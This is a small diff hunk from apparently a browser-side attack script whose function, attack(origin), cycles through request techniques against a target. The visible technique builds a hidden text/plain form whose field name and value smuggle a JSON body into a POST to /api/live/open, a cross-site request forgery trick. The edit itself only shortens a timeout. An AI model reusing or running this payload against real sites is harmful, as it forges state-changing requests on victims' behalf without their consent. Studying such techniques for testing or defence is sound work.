@@ -22,7 +22,7 @@ async function attack(origin) {
     ['form', () => new Promise((done) => { const f = document.createElement('form'); f.method = 'post'; f.enctype = 'text/plain'; f.action = `${origin}/api/live/open`; f.target = 'w'; const w = document.createElement('iframe'); w.name = 'w'; const i = document.createElement('input'); i.name = '{"open":true,"x":"'; i.value = '"}'; f.append(i); document.body.append(w, f); f.submit(); setTimeout(() => done(''), 500); })],
   ];
   for (const [name, go] of tries) {
-    const text = await Promise.race([go().catch(() => ''), new Promise((done) => { setTimeout(() => done(''), 1500); })]);
+    const text = await Promise.race([go().catch(() => ''), new Promise((done) => { setTimeout(() => done(''), 700); })]);
     if (text) read.push(`${name}: ${String(text).slice(0, 60)}`);
   }
   return read;
